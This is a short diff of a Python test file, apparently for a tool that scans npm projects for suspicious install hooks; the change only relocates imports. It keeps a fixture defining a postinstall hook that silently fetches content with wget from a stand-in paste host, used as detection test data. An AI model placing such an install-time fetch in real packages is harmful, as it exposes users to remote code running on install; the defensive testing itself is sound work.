@@ -9,9 +9,9 @@ from typing import Any
 
 import jsonschema
 import pytest
-from hunter import ROOT, hunt, npm_project, project_with
 
-from requires import needs_btf, needs_registry, needs_runc
+from tests.support.hunter import ROOT, hunt, npm_project, project_with
+from tests.support.requires import needs_btf, needs_registry, needs_runc
 
 FETCHES = {"postinstall": "wget -qO- --tries=1 --timeout=5 https://paste.example/raw/x || true"}
 WAIVER = '[[waiver]]\nkind = "*"\nreason = "known"\nauthor = "ada@corp.example"\nexpires = 2099-01-31\n'
